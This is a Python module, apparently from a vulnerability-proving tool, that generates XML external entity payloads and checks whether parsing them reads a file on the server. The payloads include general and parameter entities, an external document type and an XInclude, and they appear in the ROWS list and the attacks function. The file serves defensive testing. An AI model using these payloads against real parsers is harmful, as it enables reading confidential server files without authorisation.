"""Documents whose entities reach files of the server."""

from __future__ import annotations

from pathlib import Path

from buckler.finding.evidence import ProofKind
from buckler.prove.model import Attack, Oracle, Probe, ProofRecipe, SinkContext
from buckler.weaknesses.data.documents import DOMAIN, documents, encoding, named

PROBE = Path(__file__).with_name("probe.py")
PLAIN = '<!DOCTYPE r [<!ENTITY x SYSTEM "{secret.as_uri()}">]><r>&x;</r>'
ROWS = (
    (PLAIN, "an entity that names a file"),
    (PLAIN.replace("{secret.as_uri()}", "{secret}"), "an entity that names a path"),
    (f"<?xml version='1.0'?>{PLAIN}", "the same with a declaration"),
    (PLAIN.replace("<r>&x;</r>", "<r><a>&x;</a></r>"), "the entity further inside"),
    ('<!DOCTYPE r [<!ENTITY % x SYSTEM "{secret.as_uri()}"> %x;]><r/>', "an entity of the document type"),
    ('<!DOCTYPE r SYSTEM "{secret.as_uri()}"><r/>', "an external document type"),
    (
        '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="{secret.as_uri()}"/></r>',
        "an inclusion",
    ),
)


def attacks(situation: SinkContext) -> list[Attack]:
    inside = [PLAIN.replace("<r>&x;</r>", text) for text in named(situation, "&x;")]
    rows = [*((text, "the entity in elements that the code names") for text in inside), *ROWS]
    return [Attack(f"f{text!r}{encoding(situation)}", label) for text, label in rows]


ENTITY = Oracle(
    ProofKind.EXPLOIT,
    "an entity of the document read a file of the server",
    Probe(PROBE, values={"SUFFIX": "'.txt'"}),
    attacks,
    documents,
    domain=DOMAIN,
)
PROOF = ProofRecipe(lambda _: [ENTITY], document=".xml")
